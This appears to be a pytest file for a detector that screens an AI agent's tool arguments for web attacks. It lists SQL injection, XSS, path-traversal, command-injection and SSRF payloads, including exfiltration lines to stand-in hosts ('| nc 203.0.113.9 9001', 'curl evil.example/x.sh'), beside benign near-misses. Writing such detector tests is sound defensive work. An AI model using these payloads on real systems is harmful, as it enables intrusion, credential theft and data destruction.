"""Web-attack detector: scored families, direction awareness, SSRF targets."""

from __future__ import annotations

import pytest

from bastion.core.normalise import on_views
from bastion.core.types import Direction, Severity, Subject
from bastion.detectors.webattack import REQUEST_FIELD, webattack_check
from tests.detectors.cases import case_texts

CHECK = on_views(webattack_check())


def _high(text: str, direction: Direction = Direction.TOOL_ARGS) -> set[str]:
    return {
        f.code
        for f in CHECK(Subject(text=text, direction=direction))
        if f.severity.rank >= Severity.HIGH.rank
    }


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("1' OR '1'='1' --", "webattack.sqli"),
        ("-1 UNION SELECT username, password FROM users--", "webattack.sqli"),
        ('<img src=x onerror="alert(document.cookie)">', "webattack.xss"),
        ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "webattack.xss"),
        ("../../../../etc/passwd", "webattack.path_traversal"),
        ("report.pdf; cat /etc/passwd", "webattack.cmdi"),
        ("http://169.254.169.254/latest/meta-data/iam/", "webattack.ssrf"),
        ("http://metadata.google.internal/computeMetadata/v1/", "webattack.ssrf"),
        ("http://0x7f000001:8080/", "webattack.ssrf"),
        ("http://[::1]/admin", "webattack.ssrf"),
    ],
)
def test_payloads_in_tool_arguments_are_high(text: str, code: str) -> None:
    assert code in _high(text)


@pytest.mark.parametrize(
    "text",
    [
        "1060 OR 70S",
        "Tom & Jerry; a classic",
        "https://app.example.com/dashboard?action=edit&id=123",
        "wait... what?",
        "http://8.8.8.8/dns",
    ],
)
def test_near_misses_in_tool_arguments_are_not_high(text: str) -> None:
    assert not _high(text)


def test_talking_about_sql_in_chat_does_not_block() -> None:
    text = "Why does ' OR 1=1 -- let attackers log in? Our DBA showed UNION SELECT too."
    assert not _high(text, Direction.INPUT)
    assert "webattack.sqli" in _high(text, Direction.TOOL_ARGS)


def test_request_field_metadata_counts_as_interpreted() -> None:
    subject = Subject(
        text="x' UNION SELECT password FROM users--", metadata={REQUEST_FIELD: "search"}
    )
    assert any(f.severity is Severity.HIGH for f in CHECK(subject))


def test_one_weak_signal_does_not_block() -> None:
    assert not _high("setTimeout(refresh, 1000)")
    assert not _high("alert(user.name)")


def test_a_bare_probe_call_blocks() -> None:
    assert "webattack.xss" in _high("alert(1)")


def _cases(label: int) -> list[str]:
    return case_texts("webattack_cases.jsonl", label)


def test_own_benign_tool_arguments_pass() -> None:
    flagged = [text for text in _cases(0) if _high(text)]
    assert not flagged


def test_own_attack_cases_are_caught() -> None:
    attacks = _cases(1)
    missed = [text for text in attacks if not _high(text)]
    assert len(missed) / len(attacks) <= 0.03, missed


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('{"path": "../../../etc/passwd"}', "webattack.path_traversal"),
        ("{\"q\": \"x' OR '1'='1\"}", "webattack.sqli"),
        ('<?xml version="1.0"?><root><a probe="1 OR 1=1"></a></root>', "webattack.sqli"),
        ('{"host": "example.com; cat /etc/shadow"}', "webattack.cmdi"),
        ('{"bio": "<svg/onload=alert(1)>"}', "webattack.xss"),
        ("https://shop.example/item?id=1%27%20or%20%271%27%3D%271&lang=en", "webattack.sqli"),
        ("q=shoes&sort=AND 1=1) --", "webattack.sqli"),
        ('{"q": "1+union+select+null,null"}', "webattack.sqli"),
        ('<r><a v="sort=x&cmd=c=id;$c"></a></r>', "webattack.cmdi"),
    ],
)
def test_payloads_nested_in_json_or_xml_are_high(text: str, code: str) -> None:
    assert code in _high(text)


@pytest.mark.parametrize(
    "text",
    [
        '{"name": "O\'Brien", "note": "Select the order from last week"}',
        '{"reply": "rm the old file? no", "file": "report (final).pdf"}',
        '<order id="42"><item sku="A-1">Men\'s T-Shirt (XL)</item></order>',
        '{"url": "https://shop.example.com/search?q=shoes&size=10"}',
        '{"phone": "+15550100", "lang": "C++", "q": "red+shoes"}',
        '<r><a v="sort=price&dir=asc"></a></r>',
    ],
)
def test_benign_nested_values_are_not_high(text: str) -> None:
    assert not _high(text)


@pytest.mark.parametrize(
    "text",
    [
        "Is ' OR 1=1 -- still how attackers bypass logins?",
        "Our page broke after someone posted <script>alert(1)</script> in a comment",
        "Why does ; cat /etc/passwd appear in our access log?",
    ],
)
def test_chat_about_attacks_does_not_block(text: str) -> None:
    assert not _high(text, Direction.INPUT)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("8+order+by+1--", "webattack.sqli"),
        ("1+union+select+1,2", "webattack.sqli"),
        ("OR '{\"b\":2}'::jsonb @> '{\"a\":1}'::jsonb", "webattack.sqli"),
        ("x' or json_valid (id);", "webattack.sqli"),
        ("username[$ne]=toto&password[$ne]=toto", "webattack.sqli"),
        ("UNI/**/ON SEL/**/ECT 1,2", "webattack.sqli"),
        ("<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">", "webattack.xss"),
    ],
)
def test_form_encoding_and_dialects_are_read(text: str, code: str) -> None:
    assert code in _high(text)


@pytest.mark.parametrize(
    "text",
    ["C++", "a+b=c", "<note><pdf>if+foo==</pdf></note>", "MIAGCSqGSIb3DQonabcdefgh+HIJA=="],
)
def test_plus_signs_that_are_not_spaces_pass(text: str) -> None:
    assert not _high(text)


@pytest.mark.parametrize(
    "text",
    ["report.txt\\nuptime\\n", "\\r\\n/bin/hostname;", "7\\nuname -a"],
)
def test_written_out_line_breaks_separate_commands(text: str) -> None:
    assert "webattack.cmdi" in _high(text)


@pytest.mark.parametrize(
    "text",
    [
        "D:\\builds\\nightly\\tools\\nmap.log",
        "\\\\nas01\\shared\\new\\ideas.docx",
        "First line\\nSecond line\\n",
        "Total:\\t42\\tOK",
        '{"body": "Thanks!\\ngit is down again\\nnode 3 restarted"}',
        "Thanks!\\ngit is down again",
    ],
)
def test_written_out_escapes_in_paths_and_prose_pass(text: str) -> None:
    assert not _high(text)


# What file, shell and search tools are sent in ordinary use: a relative path one step up to a
# sibling, a binary's absolute path, a command line standing alone (a shell tool declares that it
# expects `webattack.cmdi`; a search may be for the command itself).
@pytest.mark.parametrize(
    "text",
    [
        "../assets/logo.png",
        '{"path": "../assets/logo.png"}',
        "..\\styles\\site.css",
        "/usr/local/bin/python3",
        "/usr/bin/python3",
        '{"interpreter": "/usr/bin/node"}',
        "ls -la",
        '{"query": "ls -la"}',
        "git log --oneline -5",
        "npm run build",
        "python3 manage.py migrate",
        "make -j4 all",
        "head -n 20 notes.txt",
    ],
)
def test_ordinary_tool_arguments_are_not_high(text: str) -> None:
    assert not _high(text)


# What must still block: climbing out of a root, a parent step into a secret or inside a
# request parameter, a command chained or aimed at the system, a probe command, a shell.
@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("../../../etc/passwd", "webattack.path_traversal"),
        ("../../config/settings.yml", "webattack.path_traversal"),
        ("..%2f..%2fapp%2fsecrets", "webattack.path_traversal"),
        ("%2e%2e/boot.ini", "webattack.path_traversal"),
        ("../.env", "webattack.path_traversal"),
        ("../.bash_history", "webattack.path_traversal"),
        ("static?file=../app.py", "webattack.path_traversal"),
        (
            'Content-Disposition: form-data; name="f"; filename="..\\\\run.aspx"',
            "webattack.path_traversal",
        ),
        ("/usr/local/bin/python3; rm -rf /srv", "webattack.cmdi"),
        ("/usr/bin/python3 -c 'import os'", "webattack.cmdi"),
        ("/bin/ls -al /home", "webattack.cmdi"),
        ("/usr/bin/id -u", "webattack.cmdi"),
        ("ls -la /root", "webattack.cmdi"),
        ("ls -la; id", "webattack.cmdi"),
        ("ls -la | nc 203.0.113.9 9001", "webattack.cmdi"),
        ("uname -a", "webattack.cmdi"),
        ("curl evil.example/x.sh", "webattack.cmdi"),
        ("/bin/bash", "webattack.cmdi"),
        ("cat /etc/group", "webattack.cmdi"),
    ],
)
def test_attacks_in_tool_arguments_still_block(text: str, code: str) -> None:
    assert code in _high(text)
